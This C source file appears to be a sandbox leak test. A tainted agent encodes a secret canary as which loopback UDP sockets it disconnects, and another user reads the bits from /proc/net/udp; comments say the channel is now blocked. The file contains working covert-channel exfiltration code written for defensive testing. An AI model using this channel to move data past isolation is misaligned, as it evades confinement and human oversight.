// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_disconnect_state - which of its connected UDP sockets a tainted agent disconnects, which
 * /proc/net/udp (and inet sock_diag) shows every user: a connected socket is listed in state 01
 * with its peer as rem_address, a disconnected one in state 07 with 00000000:0000. Before its
 * recv the agent (untainted) connects DS_SOCKS UDP sockets to 127.0.0.1:(DS_BASE + i) (the peer
 * port is the index; nothing listens there, nothing is sent). After the recv it disconnects
 * (connect AF_UNSPEC) socket i for every 0 bit i of the canary: a disconnect goes straight to
 * udp_disconnect, before any cgroup connect hook, and sends nothing. uid 65534 reads
 * /proc/net/udp at sync "set": bit i is 1 if a socket of the agent's uid is still connected to
 * 127.0.0.1:(DS_BASE + i). Verifier: the bits reassembled, compared with the canary.
 * The pre-taint sweep keeps the agent's own UDP sockets (egress judges their packets).
 * Result before the fix: host (cgroup backend, 6.18): LEAKED in user and root mode; positive control verified.
 * Bandwidth: 1 bit per UDP socket connected before the taint, once (a tainted agent cannot
 * connect again); the fd limit bounds it (~1000 bits).
 * Fix idea: the sweep could disconnect, at the taint, a tainted agent's connected UDP sockets
 * whose peer it may not send to (then nothing is left to modulate), as it shuts UNIX ones;
 * the same would close udp_cork_txq and udp_broadcast_self_peer.
 * Status: blocked: cgroup backend, mncd's sweep disconnects the agent's own datagram sockets
 * connected to a peer its taint disallows before the delivery, so none is left to disconnect; lsm
 * backend, socket_connect judges connect(AF_UNSPEC) on an IP socket as one to an unregistered
 * destination. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"

#define DS_SOCKS 112 /* 14 bytes */
#define DS_BASE 40000

static int agent(struct atk_ctx *c)
{
    static int s[DS_SOCKS];
    int conn = 0;
    for (int i = 0; i < DS_SOCKS; i++) {
        struct sockaddr_in to = {.sin_family = AF_INET,
                                 .sin_port = htons((uint16_t)(DS_BASE + i)),
                                 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : connect(s[i], (struct sockaddr *)&to, sizeof(to));
        if (i == 0)
            atk_try(c, "connect udp 127.0.0.1:DS_BASE (untainted)", r);
        conn += r == 0;
    }
    atk_note(c, "connected %d", conn);
    atk_recv(c);
    size_t n = strlen(c->secret);
    int dis = 0, first = 1;
    struct sockaddr un = {.sa_family = AF_UNSPEC};
    for (int i = 0; i < DS_SOCKS && (size_t)i / 8 < n; i++) {
        if ((unsigned char)c->secret[i / 8] >> (7 - i % 8) & 1)
            continue;
        long r = connect(s[i], &un, sizeof(un));
        if (first)
            atk_try(c, "disconnect (AF_UNSPEC, tainted)", r);
        first = 0;
        dis += r == 0;
    }
    atk_note(c, "disconnected %d", dis);
    atk_sync(c, "set");
    return 0;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return 0;
    char line[512], msg[DS_SOCKS / 8 + 1] = {0};
    if (!fgets(line, sizeof(line), f)) {
        fclose(f);
        return 0;
    }
    while (fgets(line, sizeof(line), f)) {
        unsigned raddr, rport, st, uid;
        if (sscanf(line, " %*d: %*x:%*x %x:%x %x %*x:%*x %*x:%*x %*x %u", &raddr, &rport, &st, &uid) != 4)
            continue;
        if (uid != (unsigned)c->agent_uid || st != 1 || raddr != htonl(INADDR_LOOPBACK) || rport < DS_BASE ||
            rport >= DS_BASE + DS_SOCKS)
            continue;
        unsigned i = rport - DS_BASE;
        msg[i / 8] = (char)((unsigned char)msg[i / 8] | (1u << (7 - i % 8)));
    }
    fclose(f);
    snprintf(out, n, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "set") != 0)
        return;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from which of the agent's UDP sockets are still connected "
                        "(/proc/net/udp state and rem_address)");
}

static const struct atk A = {"udp_disconnect_state",
                             "which pre-taint connected UDP sockets the agent disconnects, as /proc/net/udp shows",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
